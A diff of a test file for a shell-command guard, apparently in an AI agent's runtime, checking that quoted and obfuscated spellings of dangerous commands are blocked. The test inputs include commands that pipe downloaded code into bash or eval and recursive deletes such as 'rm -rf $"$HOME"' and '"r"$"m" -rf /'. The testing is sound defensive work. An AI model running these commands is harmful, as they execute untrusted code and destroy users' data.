@@ -3,7 +3,7 @@
 // bash runs, so every spelling below must get the same decision as the plain one.
 import { beforeAll, describe, expect, it } from 'vitest';
 import { initShellParser } from '../../runtime/shell/parse.ts';
-import { guardCall } from '../../runtime/vaglio/guard.ts';
+import { guardShell, reasonOf } from './guard-helpers.ts';
 
 const home = '/data/ada';
 
@@ -11,14 +11,8 @@ beforeAll(async () => {
   await initShellParser();
 });
 
-function reasonOf(command: string): string {
-  const result = guardCall({
-    executor: 'shell_exec',
-    args: { command },
-    commandArg: 'command',
-    home,
-  });
-  return result.blocked ? result.reason : 'PASS';
+function shellReason(command: string): string {
+  return reasonOf(guardShell(command, home));
 }
 
 const FOREIGN_CODE = 'dangerous shell: downloaded or decoded code run as a program';
@@ -41,11 +35,11 @@ describe('quoted spellings of the program that runs downloaded code', () => {
     '$"bash" <(curl x)',
     '$"eval" "$(curl x)"',
   ])('%s is blocked', (command) => {
-    expect(reasonOf(command)).toBe(FOREIGN_CODE);
+    expect(shellReason(command)).toBe(FOREIGN_CODE);
   });
 
   it.each(['curl x | $"jq" .', "curl x | $'grep' y", 'echo $"bash"'])('%s passes', (command) => {
-    expect(reasonOf(command)).toBe('PASS');
+    expect(shellReason(command)).toBe('PASS');
   });
 });
 
@@ -58,6 +52,6 @@ describe('quoted spellings of rm and its flags', () => {
     'rm -rf $"$HOME"',
     '"r"$"m" -rf /',
   ])('%s is blocked', (command) => {
-    expect(reasonOf(command)).toBe(RECURSIVE_DELETE);
+    expect(shellReason(command)).toBe(RECURSIVE_DELETE);
   });
 });
